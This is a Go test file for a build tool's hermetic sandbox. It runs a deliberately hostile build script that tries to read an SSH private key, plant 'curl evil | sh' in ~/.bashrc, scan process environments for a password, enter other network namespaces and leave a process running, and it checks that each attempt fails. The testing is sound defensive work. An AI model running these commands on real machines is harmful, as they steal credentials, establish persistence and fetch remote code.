package build

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/custody-dev/custody/attest"
)

// hermeticEvil is a build script doing what issue 18 item 5 found a
// `build --hermetic` command could do as root; each success is a LEAK line
// in its output file.
const hermeticEvil = `. ./targets
mkdir -p out
: > out/report.txt
leak() { echo "LEAK: $*" >> out/report.txt; }
cat "$VICTIM_HOME/.ssh/id_ed25519" >/dev/null 2>&1 && leak "read ~/.ssh"
echo 'curl evil | sh' >> "$VICTIM_HOME/.bashrc" 2>/dev/null && leak "edited ~/.bashrc"
for e in /proc/[0-9]*/environ; do grep -q s3cret "$e" 2>/dev/null && leak "password in $e"; done
for n in /proc/[0-9]*/ns/net; do nsenter --net="$n" true 2>/dev/null && leak "entered $n"; done
env | grep -q s3cret && leak "custody's password in the environment"
setsid sleep "$SLEEP_MARKER" </dev/null >/dev/null 2>&1 &
echo "CONTROL: the script ran" >> out/report.txt
`

// TestHermeticContained: issue 18 item 5. A hermetic build's command
// reaches nothing of the builder's machine outside its repository, leaves
// no process behind, and the provenance says hermetic because the sandbox
// ran. TestHermeticContainedUnprivileged runs it again as nobody.
func TestHermeticContained(t *testing.T) {
	t.Setenv("CUSTODY_PASSWORD", "s3cret-password")
	home := filepath.Join(t.TempDir(), "home")
	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("key"), 0o600)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o600)
	marker := fmt.Sprintf("300.%d%d", os.Getpid(), time.Now().UnixNano()%1e6)
	dir, _ := newRepo(t, map[string]string{
		"build.sh": hermeticEvil,
		"targets":  fmt.Sprintf("VICTIM_HOME=%s\nSLEEP_MARKER=%s\n", home, marker),
	})
	res, err := Run(context.Background(), Options{Command: []string{"sh", "build.sh"}, Dir: dir, Hermetic: true, Artifacts: []string{"out/report.txt"}})
	if errors.Is(err, ErrHermeticUnavailable) && os.Getenv("CUSTODY_TEST_SANDBOX") != "1" {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	report, _ := os.ReadFile(filepath.Join(dir, "out", "report.txt"))
	if !strings.Contains(string(report), "CONTROL") || strings.Contains(string(report), "LEAK") {
		t.Fatalf("hermetic build:\n%s", report)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# rc\n" {
		t.Errorf(".bashrc changed: %q", b)
	}
	if !res.Provenance.BuildDefinition.ExternalParameters.(attest.CustodyExternalParameters).Hermetic {
		t.Error("hermetic not recorded")
	}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline"); err == nil && string(b) == "sleep\x00"+marker+"\x00" {
			t.Error("a process of the hermetic build outlived it")
		}
	}
}

func TestHermeticContainedUnprivileged(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root to switch to nobody")
	}
	setpriv, err := exec.LookPath("setpriv")
	if err != nil {
		t.Skip("setpriv not installed")
	}
	if _, err := exec.LookPath("bwrap"); err != nil && os.Getenv("CUSTODY_TEST_SANDBOX") != "1" {
		t.Skip("bwrap not installed")
	}
	dir, err := os.MkdirTemp("", "custody-build-nobody-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	os.Chmod(dir, 0o755)
	b, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	exe := filepath.Join(dir, "build.test")
	if err := os.WriteFile(exe, b, 0o755); err != nil {
		t.Fatal(err)
	}
	tmp := filepath.Join(dir, "tmp")
	os.Mkdir(tmp, 0o755)
	os.Chown(tmp, 65534, 65534)
	cmd := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", exe, "-test.run=^TestHermeticContained$", "-test.v")
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "TMPDIR=" + tmp, "HOME=" + tmp, "CUSTODY_TEST_SANDBOX=1"}
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "--- PASS: TestHermeticContained") {
		t.Fatalf("as nobody: %v\n%s", err, out)
	}
}
